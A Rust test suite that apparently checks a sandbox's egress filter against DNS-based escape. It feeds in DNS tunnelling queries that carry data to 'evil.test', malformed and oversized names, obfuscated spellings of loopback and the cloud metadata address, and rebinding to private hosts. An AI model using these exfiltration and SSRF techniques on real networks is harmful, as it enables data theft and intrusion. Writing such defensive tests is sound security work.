//! Names as a way out. The host's own resolver counts what it is asked, and the host every packet.

use std::net::IpAddr;

use egress_policy::{
    Reason,
    addresses::{GATEWAY_V4, GUEST_V4},
    link::DropReason,
};

use crate::{
    dns::{Dns, Says},
    frames::{ACK, Wire, labels, question, segment, tcp, udp},
    world::{Egress, as_guest, enter_a_host, ok, packets, sh, with_dns},
};

const NO_ERROR: u8 = 0;
const NO_SUCH_NAME: u8 = 3;
const A: u16 = 1;
const TXT: u16 = 16;
const NULL: u16 = 10;
const ANY: u16 = 255;

/// Does this to a guest whose rules allow `good.test` and all below `wild.test`; nothing may leave the host for it.
fn nothing_leaves(attack: impl FnOnce(&mut Wire, &mut Egress)) {
    if !enter_a_host() {
        return;
    }
    let dns = Dns::start(&[("good.test", Says::Addresses(vec![&["203.0.113.80"]]))]);
    let (mut egress, link) = Egress::start(&with_dns(&["good.test", "*.wild.test"], dns.address));
    let mut wire = Wire::new(link);
    let before = packets();
    attack(&mut wire, &mut egress);
    wire.address_of("good.test").expect("names work as before");
    assert_eq!((dns.asked(), packets() - before), (0, 0));
}

#[test]
fn a_denied_name_sends_no_packet() {
    nothing_leaves(|wire, egress| {
        assert_eq!(
            wire.ask(&question(&labels("denied.test"), A)),
            (NO_SUCH_NAME, None)
        );
        egress.told_refused(Reason::NoRule);
    });
}

/// What is to be carried out stands in the names.
#[test]
fn a_tunnel_of_many_long_names_sends_no_packet() {
    nothing_leaves(|wire, _| {
        for number in 0..150 {
            let data = format!("{number:060}.{number:060}.{number:060}");
            assert_eq!(
                wire.ask(&question(&labels(&format!("{data}.evil.test")), A)).0,
                NO_SUCH_NAME
            );
            let (code, address) = wire.ask(&question(&labels(&format!("{data}.wild.test")), A));
            assert_eq!((code, address.is_some()), (NO_ERROR, true));
        }
    });
}

#[test]
fn questions_for_data_are_answered_with_nothing() {
    nothing_leaves(|wire, egress| {
        for kind in [TXT, NULL, ANY, 5, 15, 33, 64, 65, 252, 65_535] {
            assert_eq!(wire.ask(&question(&labels("good.test"), kind)).1, None, "{kind}");
            assert_eq!(
                wire.ask(&question(&labels("data.wild.test"), kind)).1,
                None,
                "{kind}"
            );
            assert_eq!(
                wire.ask(&question(&labels("data.evil.test"), kind)).1,
                None,
                "{kind}"
            );
        }
        egress.told_dropped(DropReason::QuestionKind);
    });
}

#[test]
fn names_that_go_in_circles_or_past_the_end_are_no_names() {
    nothing_leaves(|wire, egress| {
        let loops: [&[u8]; 7] = [
            &[0xc0, 12],
            &[1, b'a', 0xc0, 12],
            &[0xc0, 14, 0xc0, 12],
            &[0xc0, 0xff],
            &[63],
            &[64, b'a'],
            &[0x80],
        ];
        for name in loops {
            wire.say(&udp(
                GUEST_V4.into(),
                GATEWAY_V4.into(),
                (1, 53),
                &question(name, A),
            ));
        }
        let longest = labels(&["a".repeat(63), "b".repeat(63), "c".repeat(63), "d".repeat(63)].join("."));
        wire.say(&udp(
            GUEST_V4.into(),
            GATEWAY_V4.into(),
            (1, 53),
            &question(&longest, A),
        ));
        wire.fence();
        egress.told_dropped(DropReason::Malformed);
    });
}

/// Addresses as names, in the spellings that resolvers of C libraries take for addresses.
#[test]
fn an_address_that_is_asked_for_as_a_name_is_none() {
    nothing_leaves(|wire, _| {
        for name in [
            "127.0.0.1",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "0x7f.1",
            "169.254.169.254",
            "1",
        ] {
            assert_eq!(wire.ask(&question(&labels(name), A)).1, None, "{name}");
        }
    });
}

#[test]
fn options_of_dns_carry_nothing_and_stop_nothing() {
    nothing_leaves(|wire, _| {
        let root = [0, 0, 41];
        let options: [&[u8]; 5] = [
            &[0xff, 0xff, 0, 0, 0x80, 0, 0, 0],
            &[0, 0, 0xff, 0xff, 0xff, 0xff, 0, 0],
            &[4, 0, 0, 0, 0, 0, 0, 8, 0, 3, 0, 4, b'd', b'a', b't', b'a'],
            &[4, 0, 0, 0, 0, 0, 0xff, 0xff],
            &[],
        ];
        for option in options {
            let mut asked = question(&labels("data.evil.test"), A);
            asked[11] = 1;
            asked.extend([&root, option].concat());
            assert_eq!(wire.ask(&asked).1, None, "{option:?}");
        }
    });
}

/// 64 KiB that call themselves one name, over TCP.
#[test]
fn a_name_of_64_kib_over_tcp_is_none() {
    nothing_leaves(|wire, _| {
        let syn = wire.connect(GATEWAY_V4.into(), 53);
        let name: Vec<u8> = labels(&vec!["x".repeat(63); 1020].join("."));
        let asked = question(&name, A);
        let whole = [&u16::try_from(asked.len()).unwrap().to_be_bytes(), &asked[..]].concat();
        let mut sequence = 1001;
        for piece in whole.chunks(16 * 1024) {
            wire.say(&tcp(
                GATEWAY_V4.into(),
                (40_000, 53),
                sequence,
                syn.sequence + 1,
                ACK,
                piece,
            ));
            sequence += u32::try_from(piece.len()).unwrap();
        }
        wire.hear(|frame| segment(frame).filter(|segment| segment.is_refusal() || segment.flags & 1 != 0));
    });
}

#[test]
fn a_resolver_over_tcp_knows_what_that_over_udp_knows() {
    nothing_leaves(|wire, _| {
        let syn = wire.connect(GATEWAY_V4.into(), 53);
        let ask = |name: &str| {
            let asked = question(&labels(name), A);
            [&u16::try_from(asked.len()).unwrap().to_be_bytes(), &asked[..]].concat()
        };
        let both = [ask("data.evil.test"), ask("good.test")].concat();
        wire.say(&tcp(
            GATEWAY_V4.into(),
            (40_000, 53),
            1001,
            syn.sequence + 1,
            ACK,
            &both,
        ));
        let first = wire.hear(|frame| segment(frame).filter(|segment| !segment.data.is_empty()));
        assert_eq!(first.data[5] & 15, NO_SUCH_NAME);
    });
}

#[test]
fn any_other_resolver_is_out_of_reach() {
    if !enter_a_host() {
        return;
    }
    let (mut egress, link) = Egress::start(&crate::world::config(&["good.test"], &["good.test"]));
    as_guest(link, || {
        let ask = "import socket,sys
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5); s.connect(('203.0.113.53',int(sys.argv[1])))
s.send(b'x'*30); s.recv(1)";
        for port in [53, 443, 853] {
            let (_, said) = sh(&format!("python3 -c \"{ask}\" {port}"));
            assert!(
                said.contains("refused") || said.contains("rror: [Errno 1"),
                "{said}"
            );
        }
    });
    egress.told_dropped(DropReason::Udp);
    assert_eq!(packets(), 0);
}

/// Of an allowed name, the first address is public and the second private: the first is the one that was connected to,
/// and who asks again gets nowhere.
#[test]
fn a_name_that_moves_is_connected_to_where_it_was_checked() {
    if !enter_a_host() {
        return;
    }
    let answers: Vec<&[&str]> = vec![&["203.0.113.80"], &["10.0.0.1"], &["169.254.169.254"]];
    let dns = Dns::start(&[("moves.test", Says::Addresses(answers))]);
    crate::servers::serve(1234, |_| {});
    let (mut egress, link) = Egress::start(&with_dns(&["moves.test"], dns.address));
    let mut wire = Wire::new(link);
    let place: IpAddr = wire.address_of("moves.test").unwrap();
    assert_eq!(dns.asked(), 0);
    assert!(!wire.connect_from(1, place, 1234).is_refusal());
    assert_eq!(egress.connected_to(), "203.0.113.80".parse::<IpAddr>().unwrap());
    assert!(wire.connect_from(2, place, 1234).is_refusal());
    egress.told_refused(Reason::Private);
    assert!(wire.connect_from(3, place, 1234).is_refusal());
    egress.told_refused(Reason::Metadata);
}

#[test]
fn an_allowed_name_leads_to_no_special_address() {
    if !enter_a_host() {
        return;
    }
    let own = "192.0.2.1";
    ok(&format!("ip address add {own}/32 dev lo"));
    let table: [(&str, &'static [&'static str], Reason); 12] = [
        ("metadata.test", &["169.254.169.254"], Reason::Metadata),
        ("loopback.test", &["127.0.0.1"], Reason::Loopback),
        ("loopback6.test", &["::1"], Reason::Loopback),
        ("mapped.test", &["::ffff:127.0.0.1"], Reason::Loopback),
        ("compatible.test", &["::10.0.0.1"], Reason::Private),
        ("nat64.test", &["64:ff9b::10.0.0.1"], Reason::Private),
        ("six.test", &["2002:a9fe:a9fe::1"], Reason::Metadata),
        ("private.test", &["192.168.1.1"], Reason::Private),
        ("link.test", &["fe80::1"], Reason::LinkLocal),
        ("carrier.test", &["100.64.0.1"], Reason::CarrierNat),
        ("pool.test", &["198.18.0.1"], Reason::Reserved),
        ("own.test", &["192.0.2.1"], Reason::ThisHost),
    ];
    let mut names: Vec<_> = table
        .iter()
        .map(|(name, at, _)| (*name, Says::Addresses(vec![at])))
        .collect();
    names.push(("alias.test", Says::Alias("metadata.test")));
    names.push(("later.test", Says::Addresses(vec![&["192.0.2.2"]])));
    let dns = Dns::start(&names);
    let (mut egress, link) = Egress::start(&with_dns(&["*.test"], dns.address));
    let mut wire = Wire::new(link);
    for (name, reason) in table
        .iter()
        .map(|(name, _, reason)| (*name, *reason))
        .chain([("alias.test", Reason::Metadata)])
    {
        let place = wire.address_of(name).unwrap();
        assert!(wire.connect(place, 80).is_refusal(), "{name}");
        egress.record(|record| {
            let told = matches!(record.what, egress_policy::control::What::Refused { reason: told, .. } if told == reason);
            told && record.target.as_ref().is_some_and(|target| target.to_string() == name)
        });
    }

    // The host gets an address while the session runs.
    let place = wire.address_of("later.test").unwrap();
    wire.connect(place, 80);
    ok("ip address add 192.0.2.2/32 dev lo");
    assert!(wire.connect(place, 80).is_refusal());
    egress.told_refused(Reason::ThisHost);
}
